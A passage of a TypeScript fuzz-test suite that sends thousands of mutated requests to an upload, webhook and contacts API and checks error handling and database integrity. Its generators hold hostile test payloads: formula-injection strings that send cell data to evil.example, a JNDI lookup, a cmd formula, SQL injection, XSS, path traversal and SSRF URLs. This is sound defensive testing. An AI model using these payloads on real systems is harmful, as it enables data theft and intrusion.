/**
 * Input fuzzing (issue 9): thousands of generated hostile requests against every route of the running app
 * (the routes are read from /docs-json, plus the public signed-file route, health, metrics and unknown routes).
 *
 * Every case is one valid request for a route with one mutation applied (wrong types, missing/extra fields, huge
 * strings, deep JSON, invalid UTF-8, NUL bytes, boundary numbers, bad UUIDs, malformed cursors, header misuse,
 * bogus content types, multipart garbage, formula payloads), chosen by a seeded PRNG: FUZZ_SEED reproduces a run,
 * FUZZ_REQUESTS sizes it. A fixed list of heavy cases (10,000-deep JSON, a 50 MB single CSV line, 10,000 columns,
 * over-limit bodies) and raw-socket cases (what an HTTP client library refuses to send) run once each.
 *
 * Pass criteria:
 *  - no 5xx, ever;
 *  - every 4xx body is the SPEC §2 envelope (`{detail: string}` or `{detail: {error: string, ...}}`), 401s carry
 *    `WWW-Authenticate: Bearer`;
 *  - where the expected answer is unambiguous (bad key → 401, bad/foreign id → 404, bad limit/cursor → 400, ...)
 *    it is that answer;
 *  - a rejected request changes nothing: row counts of every table, every organization's credit balance and the
 *    stored files are compared before and after each rejected write (and around each batch of reads);
 *  - accepted uploads and cancels account exactly for the final credit balances;
 *  - the process' RSS returns near its baseline afterwards.
 */
import { AuthService } from '../../src/auth/auth.service';
import { DatabaseService } from '../../src/database/database.service';
import { UploadProcessor } from '../../src/uploads/upload.processor';
import { storedFiles } from '../support/factories';
import { csvCell, validPhones } from '../support/phone-data';
import { LOCAL_DELIVERY_ENV, Receiver } from '../support/receiver';
import { createTestApp, TestApp, TestOrg } from '../support/test-app';
import { DbSnapshot, envelopeProblem, gcFunction, rawRequest, Rng, snapshot, snapshotDiff } from './support';

const SEED = Number(process.env.FUZZ_SEED ?? 20260424);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 5200);
const MB = 1024 * 1024;
const MEMORY_BOUND = 150 * MB;
const ANSWER_TIMEOUT_MS = 30_000;
const DELETE = Symbol('delete');

type Method = 'GET' | 'POST' | 'PATCH' | 'DELETE' | 'PUT' | 'OPTIONS' | 'HEAD';

interface Case {
  label: string;
  method: Method;
  path: string;
  query?: string;
  headers: Record<string, string | string[]>;
  body?: Buffer;
  /** Acceptable statuses when the answer is unambiguous; otherwise anything below 500. */
  expect?: number[];
  /** Whose key is used (for the credit ledger). */
  org?: TestOrg | null;
  /** The body may be refused by the JSON parser, before the key is checked. */
  preGuard?: boolean;
  /** The path may not name any route (an empty segment, `..`): routing's 404 comes before the key check. */
  unroutable?: boolean;
}

interface Outcome {
  status: number;
  headers: Record<string, string>;
  text: string;
  json: unknown;
}

describe(`fuzzing every route (seed ${SEED})`, () => {
  let t: TestApp;
  let db: DatabaseService;
  let receiver: Receiver;
  let A: TestOrg; // the fuzzed organization
  let B: TestOrg; // another organization: its ids must stay invisible to A
  let broke: TestOrg;
  let inactive: TestOrg;
  const scoped: Record<string, TestOrg> = {};
  const ids = {
    aWebhook: '',
    aUpload: '',
    aCompleted: '',
    aDelivery: '',
    bWebhook: '',
    bUpload: '',
    bDelivery: '',
    aContact: '',
    aDiscarded: '',
    bContact: '',
    cursor: '',
    signedFile: '',
  };
  let routes: Array<{ method: string; path: string }> = [];
  let phoneSeq = 0;

  const failures: string[] = [];
  const stats = { requests: 0, byStatus: new Map<number, number>(), rejectedWritesVerified: 0, readsVerified: 0, accepted: 0, raw: 0, heavy: 0 };
  const ledger = new Map<string, number>(); // organization id → expected credit change
  const chargedContacts = new Set<string>(); // an idempotent repeat answers 200 with a contact charged before

  beforeAll(async () => {
    receiver = await Receiver.http();
    receiver.respond = (req, res) => {
      res.writeHead(req.url.includes('/fail') ? 500 : 200);
      res.end('ok');
    };
    t = await createTestApp({
      env: {
        ...LOCAL_DELIVERY_ENV,
        WEBHOOK_PING_TIMEOUT_MS: '1000',
        RATE_LIMIT_PER_KEY: '100000000',
        RATE_LIMIT_PER_ORGANIZATION: '100000000',
      },
    });
    db = t.get(DatabaseService);
    A = await t.createOrganization({ credits: 50_000_000 });
    B = await t.createOrganization({ credits: 1_000_000 });
    broke = await t.createOrganization({ credits: 0 });
    inactive = await t.createOrganization({ credits: 100_000, subscription: 'inactive' });
    // single-scope keys of A itself, so a scope refusal is never confused with a foreign id
    const auth = t.get(AuthService);
    for (const s of ['uploads:read', 'uploads:write', 'webhooks:manage']) {
      const k = await auth.mintKey({ organizationId: A.organizationId, userId: A.userId, scopes: [s] });
      scoped[s] = { ...A, apiKey: k.apiKey, auth: { Authorization: `Bearer ${k.apiKey}` } };
    }

    const fixtures = async (org: TestOrg) => {
      const hook = await t.http.post('/api/v1/webhooks').set(org.auth).send({ url: `${receiver.url}/ok/${org.organizationId}`, events: ['upload.completed', 'upload.created'] }).expect(200);
      const up = await t.http.post('/api/v1/uploads').set(org.auth).send({ phone_numbers: validPhones(120, (phoneSeq += 1000)) }).expect(200);
      const test = await t.http.post(`/api/v1/webhooks/${hook.body.webhook.id}/test`).set(org.auth).send({ event_type: 'upload.completed' }).expect(200);
      return { webhook: hook.body.webhook.id as string, upload: up.body.id as string, delivery: test.body.delivery_id as string };
    };
    const a = await fixtures(A);
    const b = await fixtures(B);
    await t.get(UploadProcessor).processDueUploads(); // both become completed
    Object.assign(ids, { aWebhook: a.webhook, aCompleted: a.upload, aDelivery: a.delivery, bWebhook: b.webhook, bUpload: b.upload, bDelivery: b.delivery });
    ids.aUpload = (await t.http.post('/api/v1/uploads').set(A.auth).send({ phone_numbers: validPhones(120, (phoneSeq += 1000)) }).expect(200)).body.id;
    ids.cursor = (await t.http.get('/api/v1/uploads?limit=1').set(A.auth).expect(200)).body.next_cursor;
    // the Contacts API (SPEC §11) is enabled for every fuzzed organization
    for (const org of [A, B, broke, inactive]) await auth.setFeatures(org.organizationId, { enable: ['single_contact_api'] });
    ids.aContact = (await t.http.post('/api/v1/contacts').set(A.auth).send({ phone: validPhones(1, (phoneSeq += 1000))[0] }).expect(200)).body.id;
    ids.aDiscarded = (await t.http.post('/api/v1/contacts').set(A.auth).send({ phone: validPhones(1, (phoneSeq += 1000))[0] }).expect(200)).body.id;
    await t.http.delete(`/api/v1/contacts/${ids.aDiscarded}`).set(A.auth).expect(200);
    ids.bContact = (await t.http.post('/api/v1/contacts').set(B.auth).send({ phone: validPhones(1, (phoneSeq += 1000))[0] }).expect(200)).body.id;
    const signed = await t.http.get(`/api/v1/uploads/${ids.aCompleted}/download/processed`).set(A.auth).expect(200);
    const u = new URL(signed.body.download_url);
    ids.signedFile = u.pathname + u.search;

    const doc = await t.http.get('/docs-json').expect(200);
    routes = Object.entries<Record<string, unknown>>(doc.body.paths).flatMap(([p, ops]) => Object.keys(ops).map((m) => ({ method: m.toUpperCase(), path: p })));
  }, 120_000);

  afterAll(async () => {
    await t?.close();
    await receiver?.close();
  });

  /* ---------------------------------------------------------------- sending and checking */

  async function send(c: Case): Promise<Outcome> {
    const url = c.path + (c.query !== undefined ? `?${c.query}` : '');
    const agent = t.http as unknown as Record<string, (u: string) => any>;
    let r = agent[c.method.toLowerCase()](url);
    for (const [k, v] of Object.entries(c.headers)) r = r.set(k, v as string);
    r = r.buffer(true).parse((res: NodeJS.ReadableStream, cb: (e: Error | null, b: Buffer) => void) => {
      const chunks: Buffer[] = [];
      res.on('data', (ch: Buffer) => chunks.push(ch));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    // the bytes as they are: superagent would otherwise JSON-serialize a Buffer sent with a JSON content type
    if (c.body !== undefined) r = r.serialize((x: unknown) => x).send(c.body);
    let res: { status: number; headers: Record<string, string>; body: Buffer };
    try {
      res = await r.ok(() => true).timeout({ response: ANSWER_TIMEOUT_MS, deadline: 2 * ANSWER_TIMEOUT_MS });
    } catch (e) {
      // no answer at all (a hung request) or the connection dropped: status 0 is recorded as a failure
      return { status: 0, headers: {}, text: `no answer: ${(e as Error).message}`, json: null };
    }
    const text = (res.body as Buffer).toString('utf8');
    let json: unknown = null;
    try {
      json = JSON.parse(text);
    } catch {
      /* not JSON */
    }
    return { status: res.status, headers: res.headers, text, json };
  }

  function record(index: number | string, c: Pick<Case, 'label' | 'method' | 'path' | 'query' | 'expect'>, o: Outcome): void {
    stats.requests++;
    stats.byStatus.set(o.status, (stats.byStatus.get(o.status) ?? 0) + 1);
    const where = `#${index} [${c.label}] ${c.method} ${c.path.slice(0, 120)}${c.query !== undefined ? `?${c.query.slice(0, 80)}` : ''}`;
    const problems: string[] = [];
    if (o.status >= 500 || o.status < 100) problems.push(`status ${o.status}`);
    if (o.status >= 400 && c.method !== 'HEAD') {
      const p = envelopeProblem(o.json);
      if (p) problems.push(`not the §2 envelope (${p}; content-type ${o.headers['content-type']})`);
      if (o.status === 401 && o.headers['www-authenticate'] !== 'Bearer') problems.push('401 without WWW-Authenticate: Bearer');
    }
    if (c.expect && !c.expect.includes(o.status)) problems.push(`expected ${c.expect.join('/')}, got ${o.status}`);
    if (problems.length) failures.push(`${where}: ${problems.join('; ')} — body ${o.text.slice(0, 200)}`);
    if (stats.requests % 1000 === 0) process.stderr.write(`fuzz: ${stats.requests} requests, ${failures.length} failures so far\n`);
  }

  let current: DbSnapshot & { files: number };
  async function state(): Promise<DbSnapshot & { files: number }> {
    return { ...(await snapshot(db)), files: storedFiles(t).length };
  }
  function stateDiff(a: DbSnapshot & { files: number }, b: DbSnapshot & { files: number }): string | null {
    const d = [snapshotDiff(a, b), a.files !== b.files ? `stored files: ${a.files} → ${b.files}` : null].filter(Boolean);
    return d.length ? d.join('; ') : null;
  }

  /** Accepted uploads and cancels move credits; everything else must not. */
  function account(c: Case, o: Outcome): void {
    // status 0 = no answer (recorded as a failure by record()): nothing to account, and no body to read
    if (o.status < 200 || o.status >= 300 || !c.org) return;
    const body = o.json as Record<string, unknown>;
    if (c.method === 'POST' && /^\/api\/v1\/uploads\/?$/.test(c.path)) {
      ledger.set(c.org.organizationId, (ledger.get(c.org.organizationId) ?? 0) - Number(body.credits_charged));
    }
    if (c.method === 'DELETE' && c.path.startsWith('/api/v1/uploads/') && body.status === 'cancelled') {
      ledger.set(c.org.organizationId, (ledger.get(c.org.organizationId) ?? 0) + Number(body.credits_refunded));
    }
    if (c.method === 'POST' && /^\/api\/v1\/contacts\/?$/.test(c.path) && !chargedContacts.has(String(body.id))) {
      chargedContacts.add(String(body.id));
      ledger.set(c.org.organizationId, (ledger.get(c.org.organizationId) ?? 0) - Number(body.credits_charged));
    }
    if (c.method === 'DELETE' && c.path.startsWith('/api/v1/contacts/') && body.status === 'cancelled') {
      ledger.set(c.org.organizationId, (ledger.get(c.org.organizationId) ?? 0) + Number(body.credits_refunded));
    }
  }

  const isWrite = (c: Case) => !['GET', 'HEAD', 'OPTIONS'].includes(c.method);

  /** Writes one at a time with a database comparison after each; reads in concurrent groups, compared around the group. */
  async function runAll(cases: Case[], startIndex: number): Promise<void> {
    current = await state();
    let i = 0;
    while (i < cases.length) {
      if (isWrite(cases[i])) {
        const c = cases[i];
        const o = await send(c);
        record(startIndex + i, c, o);
        account(c, o);
        const after = await state();
        if (o.status >= 400) {
          const d = stateDiff(current, after);
          if (d) failures.push(`#${startIndex + i} [${c.label}] ${c.method} ${c.path}: rejected with ${o.status} but the database changed: ${d}`);
          stats.rejectedWritesVerified++;
        } else stats.accepted++;
        current = after;
        i++;
        continue;
      }
      const group: Array<[number, Case]> = [];
      while (i < cases.length && !isWrite(cases[i]) && group.length < 8) group.push([startIndex + i, cases[i++]]);
      const outs = await Promise.all(group.map(([, c]) => send(c)));
      group.forEach(([n, c], k) => record(n, c, outs[k]));
      const after = await state();
      const d = stateDiff(current, after);
      if (d) failures.push(`reads #${group[0][0]}–#${group[group.length - 1][0]} changed the database: ${d}`);
      stats.readsVerified += group.length;
      current = after;
    }
  }

  /* ---------------------------------------------------------------- generators */

  /** Percent-encodes any string, lone surrogates included (encodeURIComponent throws on those). */
  const enc = (v: unknown): string =>
    [...Buffer.from(String(v), 'utf8')].map((b) => (/[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');

  /** JSON text spliced in verbatim (deep nesting that JSON.stringify would overflow the stack on, odd literals). */
  class RawJson {
    constructor(readonly text: string) {}
  }
  const json = (v: unknown): Buffer => {
    const raws: string[] = [];
    const text = JSON.stringify(v, (_k, x) => (x instanceof RawJson ? `\u0001RAW${raws.push(x.text) - 1}\u0001` : x));
    return Buffer.from(text.replace(/"\\u0001RAW(\d+)\\u0001"/g, (_m, i) => raws[Number(i)]), 'utf8');
  };
  const JSON_CT = { 'Content-Type': 'application/json' };

  function weird(r: Rng): unknown {
    switch (r.int(34)) {
      case 0: return null;
      case 1: return true;
      case 2: return 0;
      case 3: return -1;
      case 4: return 1.5;
      case 5: return 2 ** 53 + 1;
      case 6: return '';
      case 7: return ' ';
      case 8: return '\u0000';
      case 9: return 'a\u0000b';
      case 10: return '\ud800';
      case 11: return '\uffff\ufeff';
      case 12: return '😀'.repeat(r.int(300) + 1);
      case 13: return 'x'.repeat(r.pick([501, 2049, 5000, 70_000]));
      case 14: return [];
      case 15: return [null];
      case 16: return {};
      case 17: return { a: 1 };
      case 18: return '=HYPERLINK("http://evil.example/?x="&A1,"click")';
      case 19: return "' OR 1=1 --";
      case 20: return '${jndi:ldap://evil.example/a}';
      case 21: return '../../../../etc/passwd';
      case 22: return '%00%ff';
      case 23: return '<script>alert(1)</script>';
      case 24: return '__proto__';
      case 25: return new RawJson('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}');
      case 26: return nest(r.pick([10, 100, 1000]));
      case 27: return '-1e309';
      case 28: return 'https://user:pass@10.0.0.1/';
      case 29: return 'javascript:alert(1)';
      case 30: return 'https://[::1]/';
      case 31: return 'https://0x7f000001/';
      case 32: return '+SUM(1,2)';
      default: return r.hex(r.int(64));
    }
  }

  function nest(depth: number, kind: 'array' | 'object' = 'array'): RawJson {
    return new RawJson(kind === 'array' ? '['.repeat(depth) + '1' + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth));
  }

  interface Mutation {
    body: Buffer;
    label: string;
    headers?: Record<string, string>;
    preGuard?: boolean;
  }

  /** One mutation of a valid JSON body; `raw` mutations produce bytes no JSON.stringify would. */
  function mutateBody(r: Rng, valid: Record<string, unknown>, fields: string[]): Mutation {
    const m = mutateBodyInner(r, valid, fields);
    // these may be refused by the JSON body parser, which runs before the key is looked at
    m.preGuard = /^(whole body weird|malformed JSON|invalid UTF-8|raw NUL|BOM|UTF-16|bogus content-type|content-encoding)/.test(m.label);
    return m;
  }

  function mutateBodyInner(r: Rng, valid: Record<string, unknown>, fields: string[]): Mutation {
    const b = { ...valid };
    const f = r.pick(fields);
    switch (r.int(17)) {
      case 0:
        delete b[f];
        return { body: json(b), label: `missing ${f}` };
      case 1:
        b[r.pick(['extra', 'id', 'organization_id', 'credits_balance', 'is_admin', '__proto__', 'constructor', 'secret', 'x'.repeat(300)])] = weird(r);
        return { body: json(b), label: 'extra field' };
      case 2:
      case 3:
      case 4:
        b[f] = weird(r);
        return { body: json(b), label: `weird ${f}` };
      case 5:
        return { body: json(weird(r)), label: 'whole body weird' };
      case 6: {
        const text = JSON.stringify({ ...b, [f]: '__RAW__' }).replace('"__RAW__"', r.pick(['1e309', '-1e309', '1e-400', '123456789012345678901234567890', '-0', '0.0000000000000000000001']));
        return { body: Buffer.from(text), label: `number literal in ${f}` };
      }
      case 7: {
        const text = JSON.stringify(b);
        const cut = r.int(text.length);
        const broken = r.pick([text.slice(0, cut), text + ',', text.replace(/"/g, "'"), text.replace(':', ':NaN,"x":'), `${text}${text}`, `{"${f}":}`, text.replace('{', '{,'), '']);
        return { body: Buffer.from(broken), label: 'malformed JSON' };
      }
      case 8: {
        // invalid UTF-8 bytes inside a string value
        const bad = r.pick([[0xff], [0xfe, 0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82]]);
        return { body: Buffer.concat([Buffer.from(`{"${f}":"a`), Buffer.from(bad), Buffer.from('b"}')]), label: `invalid UTF-8 in ${f}` };
      }
      case 9:
        // a raw NUL byte inside the JSON text (not an escape)
        return { body: Buffer.concat([Buffer.from(`{"${f}":"a`), Buffer.from([0]), Buffer.from('b"}')]), label: `raw NUL in ${f}` };
      case 10:
        b[f] = 'x'.repeat(r.pick([10_000, 100_000, 900_000]));
        return { body: json(b), label: `huge string in ${f}` };
      case 11:
        b[f] = nest(r.pick([50, 500, 5000]), r.chance(0.5) ? 'array' : 'object');
        return { body: json(b), label: `deep ${f}` };
      case 12: {
        const text = JSON.stringify(b);
        return { body: Buffer.from(text.replace('{', `{"${f}":${json(weird(r)).toString()},`)), label: `duplicate key ${f}` };
      }
      case 13:
        return { body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), json(b)]), label: 'BOM before JSON' };
      case 14:
        return { body: Buffer.from(JSON.stringify(b), 'utf16le'), label: 'UTF-16 body', headers: { 'Content-Type': r.pick(['application/json', 'application/json; charset=utf-16']) } };
      case 15:
        return {
          body: json(b),
          label: 'bogus content-type',
          headers: { 'Content-Type': r.pick(['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'application/json; charset=latin9', 'application/json; charset=koi8-r', 'multipart/form-data', 'application/vnd.api+json', '*/*', 'application/json, text/plain', ';;;', 'x'.repeat(5000)]) },
        };
      default:
        return { body: json(b), label: 'content-encoding', headers: { 'Content-Type': 'application/json', 'Content-Encoding': r.pick(['gzip', 'deflate', 'br', 'zstd', 'identity', 'chunked', 'gzip, gzip']) } };
    }
  }

  /** A path id: A's own (valid), or a mutation with its expected status. */
  interface PathId {
    id: string;
    label: string;
    expect?: number[];
    /** `..` segments: the client or router resolves the path into another route, so any non-5xx answer is fine. */
    any?: boolean;
    own?: boolean;
  }

  function pathId(r: Rng, own: string, foreign: string): PathId {
    const p = r.next();
    if (p < 0.55) return { id: own, label: 'own id', own: true };
    if (p < 0.62) return { id: own.toUpperCase(), label: 'own id uppercase', own: true };
    if (p < 0.72) return { id: foreign, label: 'foreign id', expect: [404] };
    if (p < 0.8) return { id: r.uuid(), label: 'random uuid', expect: [404] };
    const bad = r.pick([
      'abc',
      '0',
      '-1',
      '1e309',
      'null',
      'undefined',
      own + 'x',
      own.slice(0, 35),
      own.replace(/-/g, ''),
      `{${own}}`,
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff'.replace(/f/g, 'g'),
      "' OR '1'='1",
      '%00',
      '..',
      '...',
      '%2e%2e',
      'x'.repeat(5000),
      '😀',
      own + '%00',
      '%ff%fe',
      own + ';drop table uploads',
      ' ' + own,
    ]);
    const encoded = /%/.test(bad) ? bad : enc(bad);
    const label = `bad id ${JSON.stringify(bad.slice(0, 40))}`;
    if (bad === '..' || bad === '%2e%2e') return { id: encoded, label, any: true };
    // a percent-encoding that is not UTF-8 cannot be decoded: 400 is as right as 404 there
    return { id: encoded, label, expect: bad === '%ff%fe' ? [400, 404] : [404] };
  }

  const BAD_LIMITS = ['0', '101', '-1', '1e309', 'abc', '1.5', '', ' 5', '0x10', '99999999999999999999', '%00', '%EF%BC%91', '1e2', 'NaN', 'Infinity', '+5', '5%20', '[]'];

  function cursorValue(r: Rng): { value: string; expect?: number[] } {
    const p = r.next();
    if (p < 0.3) return { value: ids.cursor };
    const bad = r.pick([
      'abc!!',
      'a'.repeat(300),
      Buffer.from('123:not-a-uuid').toString('base64url'),
      Buffer.from(`99999999999999999:${r.uuid()}`).toString('base64url'),
      Buffer.from(`-1:${r.uuid()}`).toString('base64url'),
      Buffer.from(`1e309:${r.uuid()}`).toString('base64url'),
      Buffer.from([0xff, 0xfe, 0x00, 0x01]).toString('base64url'),
      '%00',
      '%ff',
      ids.cursor + '=',
      ids.cursor.slice(1),
      "'; DROP TABLE uploads; --",
    ]);
    return { value: /%/.test(bad) ? bad : enc(bad), expect: [400] };
  }

  /** The query string of a list route: valid, or one mutation with its expected status. */
  /** The expectation of a request with a path id and a query string, each possibly mutated. */
  function combine(id: PathId, q: { expect?: number[]; valid?: boolean }): number[] | undefined {
    if (id.any) return undefined;
    if (id.own) return q.expect;
    if (q.valid) return id.expect;
    // both wrong: either complaint is right
    return q.expect && id.expect ? [...new Set([...q.expect, ...id.expect])] : undefined;
  }

  function listQuery(r: Rng, statuses: string[], extra: string[] = []): { query: string; label: string; expect?: number[]; valid?: boolean } {
    const p = r.next();
    if (p < 0.25) return { query: `limit=${r.int(100) + 1}`, label: 'valid limit', expect: [200], valid: true };
    if (p < 0.5) {
      const l = r.pick(BAD_LIMITS);
      return { query: `limit=${/%/.test(l) ? l : enc(l)}`, label: `bad limit ${JSON.stringify(l)}`, expect: [400] };
    }
    if (p < 0.62) {
      const c = cursorValue(r);
      return { query: `cursor=${c.value}`, label: 'cursor', expect: c.expect ?? [200], valid: !c.expect };
    }
    if (p < 0.72) {
      const ok = r.chance(0.5);
      return { query: `status=${ok ? r.pick(statuses) : enc(String(weird(r)).slice(0, 100))}`, label: 'status', expect: ok ? [200] : undefined, valid: ok };
    }
    if (p < 0.8) {
      // unknown names are refused like unknown body fields, `__proto__` and `constructor` included (issue 13)
      const name = r.pick(['foo', 'limit[]', 'limit[a]', '__proto__', 'constructor', 'organization_id']);
      return { query: `${enc(name)}=1`, label: 'unknown param', expect: [400] };
    }
    if (p < 0.86) return { query: 'limit=1&limit=2', label: 'repeated limit', expect: [400] };
    if (p < 0.9 && extra.length) {
      const good = r.chance(0.3);
      return { query: `${r.pick(extra)}=${good ? r.uuid() : enc(String(weird(r)).slice(0, 100))}`, label: 'extra filter', expect: good ? [200] : undefined, valid: good };
    }
    return { query: `limit=${r.int(100) + 1}&${'x'.repeat(r.int(3000))}=%ff%00`, label: 'garbage param' };
  }

  function authVariant(r: Rng): { headers: Record<string, string | string[]>; label: string; expect?: number[]; org: TestOrg | null } {
    const p = r.next();
    if (p < 0.7) return { headers: A.auth, label: 'A key', org: A };
    const key = A.apiKey;
    const variants: Array<[string, Record<string, string | string[]>]> = [
      ['no Authorization', {}],
      ['Bearer with nothing', { Authorization: 'Bearer ' }],
      ['Bearer alone', { Authorization: 'Bearer' }],
      ['two Authorization headers', { Authorization: [A.auth.Authorization, A.auth.Authorization] }],
      ['two different Authorization headers', { Authorization: [A.auth.Authorization, B.auth.Authorization] }],
      ['Basic scheme', { Authorization: `Basic ${Buffer.from(`x:${key}`).toString('base64')}` }],
      ['Token scheme', { Authorization: `Token ${key}` }],
      ['key without scheme', { Authorization: key }],
      ['trailing garbage', { Authorization: `Bearer ${key} extra` }],
      ['one char changed', { Authorization: `Bearer ${key.slice(0, -1)}${key.endsWith('A') ? 'B' : 'A'}` }],
      ['truncated key', { Authorization: `Bearer ${key.slice(0, -2)}` }],
      ['unknown key', { Authorization: `Bearer od_live_${'A'.repeat(32)}` }],
      ['huge token', { Authorization: `Bearer ${'x'.repeat(8000)}` }],
      ['key in X-Api-Key only', { 'X-Api-Key': key }],
      ['comma-joined keys', { Authorization: `${A.auth.Authorization}, ${A.auth.Authorization}` }],
      ['Bearer with two spaces', { Authorization: `Bearer  ${key}` }],
      ['latin-1 garbage', { Authorization: `Bearer od_live_\u00e9\u00e9\u00e9${'a'.repeat(29)}` }],
    ];
    const [label, headers] = r.pick(variants);
    return { headers, label, expect: [401], org: null };
  }

  function multipartBody(parts: Array<{ name: string; filename?: string; type?: string; data: Buffer | string; head?: string }>, boundary: string): Buffer {
    const out: Buffer[] = [];
    for (const p of parts) {
      const head =
        p.head ??
        `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}\r\n` + (p.type ? `Content-Type: ${p.type}\r\n` : '');
      out.push(Buffer.from(`--${boundary}\r\n${head}\r\n`), Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data), Buffer.from('\r\n'));
    }
    out.push(Buffer.from(`--${boundary}--\r\n`));
    return Buffer.concat(out);
  }

  function csvOf(phones: string[], extraCols = 0, cell: (i: number) => string = (i) => `c${i}`): string {
    const head = ['phone', ...Array.from({ length: extraCols }, (_, i) => `col${i}`)].join(',');
    return [head, ...phones.map((p, i) => [p, ...Array.from({ length: extraCols }, () => csvCell(cell(i)))].join(','))].join('\r\n') + '\r\n';
  }

  const FORMULAS = ['=1+1', '=cmd|\' /C calc\'!A0', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example","x")', "'=1", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'];

  function uploadCase(r: Rng): Omit<Case, 'headers'> & { headers?: Record<string, string | string[]> } {
    const multipart = r.chance(0.4);
    const n = r.pick([0, 5, 99, 100, 120, 150]);
    const phones = validPhones(n, (phoneSeq += 200));
    if (!multipart) {
      const formula = r.chance(0.15);
      const valid: Record<string, unknown> = formula
        ? { contacts: phones.map((p, i) => ({ phone: p, name: r.pick(FORMULAS), note: i })), filename: r.pick(FORMULAS) + '.csv' }
        : { phone_numbers: phones, filename: 'leads.csv', skip_mobile_lookup: r.chance(0.5) };
      if (r.chance(0.2)) valid.webhook = { url: `${receiver.url}/ok/hook`, delay: 60, secret: 's'.repeat(20) };
      if (r.chance(0.3)) return { label: `upload json valid (${n})`, method: 'POST', path: '/api/v1/uploads', headers: JSON_CT, body: json(valid) };
      const m = mutateBody(r, valid, Object.keys(valid));
      return { label: `upload json ${m.label}`, method: 'POST', path: '/api/v1/uploads', headers: m.headers ?? JSON_CT, body: m.body, preGuard: m.preGuard };
    }
    const boundary = `----fuzz${r.hex(16)}`;
    const ct = { 'Content-Type': `multipart/form-data; boundary=${boundary}` };
    const csv = csvOf(phones);
    const file = { name: 'file', filename: 'leads.csv', type: 'text/csv', data: csv };
    const col = { name: 'phone_column', data: 'phone' };
    const v = r.int(20);
    const label = `upload multipart #${v} (${n})`;
    const mp = (parts: Parameters<typeof multipartBody>[0], headers: Record<string, string> = ct) => ({ label, method: 'POST' as const, path: '/api/v1/uploads', headers, body: multipartBody(parts, boundary) });
    switch (v) {
      case 0: return mp([col, file]);
      case 1: return mp([file]);
      case 2: return mp([{ name: 'phone_column', data: r.pick(['nope', '', ' ', 'PHONE', '\u0000', 'x'.repeat(70_000), 'phone\u0000']) }, file]);
      case 3: return mp([col, { ...file, data: r.bytes(r.pick([10, 1000, 100_000])) }]);
      case 4: return mp([col, { ...file, data: Buffer.concat([Buffer.from('phone\n'), r.bytes(50_000)]) }]);
      case 5: return mp([col, { ...file, data: csvOf(phones, 0).replace(/\r\n/g, r.pick(['\n', '\r', '\u2028'])) }]);
      case 6: return mp([col, { ...file, data: Buffer.from(csv, 'utf16le') }]);
      case 7: return mp([col, { ...file, data: csv.replace('phone', '"phone') }]);
      case 8: return mp([col, { ...file, data: csvOf(phones, 3, () => r.pick(FORMULAS)) }]);
      case 9: return mp([col, file, { name: 'webhook', data: r.pick(['{', '[]', 'null', '{"url":"http://10.0.0.1/"}', nest(2000).text, '{"url":"https://x.invalid/","delay":1e309}', `{"url":"${receiver.url}/ok","secret":"short"}`]) }]);
      case 10: return mp([col, file, { name: r.pick(['extra', 'phone_numbers', 'x'.repeat(200), '']), data: 'x' }]);
      case 11: return mp([col, file, { ...file, name: 'file2' }]);
      case 12: return mp([col, { ...file, filename: r.pick(['../../../etc/passwd', '', 'a\u0000b.csv', '😀.csv', 'x'.repeat(5000), 'C:\\Windows\\evil.csv', '=1+1.csv']) }]);
      case 13: return mp([col, file, { name: 'skip_mobile_lookup', data: r.pick(['yes', '1', '', 'TRUE', 'true ', '\u0000']) }]);
      case 14: return mp([col, file, { name: 'filename_override', data: r.pick(['', ' ', 'x'.repeat(300), '../x.csv', '=cmd|calc']) }]);
      case 15: return { ...mp([col, file]), headers: { 'Content-Type': r.pick(['multipart/form-data', 'multipart/form-data; boundary=', `multipart/form-data; boundary=wrong${boundary}`, 'multipart/mixed; boundary=' + boundary]) } };
      case 16: {
        const body = multipartBody([col, file], boundary);
        return { label, method: 'POST', path: '/api/v1/uploads', headers: ct, body: body.subarray(0, r.int(body.length)) };
      }
      case 17: return mp([col, { name: 'file', data: csv, head: r.pick(['Content-Type: text/csv\r\n', 'Content-Disposition: attachment\r\n', 'Content-Disposition: form-data; name=file; filename*=UTF-8\'\'%FF%FE.csv\r\n']) }]);
      case 18: return mp([col, { ...file, data: '\uFEFF' + csv }]);
      default: return mp([col, { ...file, data: csv.replace(/\r\n/, '\r\n\u0000,\u0000\r\n') }]);
    }
  }

  /** One generated case: a route from /docs-json (or a public/unknown one) with one mutation. */
  function generate(r: Rng): Case {
    const auth = authVariant(r);
    const authExpect = auth.expect;
    const choice = r.int(routes.length + 4);
    let c: Case;
    if (choice >= routes.length) {
      c = publicCase(r, choice - routes.length);
      return c;
    }
    const route = routes[choice];
    const key = `${route.method} ${route.path}`;
    const withIds = (own: string, foreign: string) => pathId(r, own, foreign);
    switch (key) {
      case 'GET /api/v1/me':
      {
        // an unknown query parameter is a 400 on every operation (SPEC §1, issue 13); it used to be ignored here
        const query = r.chance(0.3) ? `x=${enc(String(weird(r)).slice(0, 50))}` : undefined;
        c = { label: 'me', method: 'GET', path: '/api/v1/me', headers: {}, query, expect: query === undefined ? [200] : [400] };
      }
        break;
      case 'POST /api/v1/webhooks': {
        const valid = { url: `${receiver.url}/${r.chance(0.9) ? 'fail' : 'ok'}/${r.hex(6)}`, description: 'fuzz', events: ['upload.completed'] };
        const m: Mutation = r.chance(0.15) ? { body: json(valid), label: 'valid' } : mutateBody(r, valid, ['url', 'description', 'events']);
        c = { label: `create webhook ${m.label}`, method: 'POST', path: '/api/v1/webhooks', headers: m.headers ?? JSON_CT, body: m.body, preGuard: m.preGuard };
        break;
      }
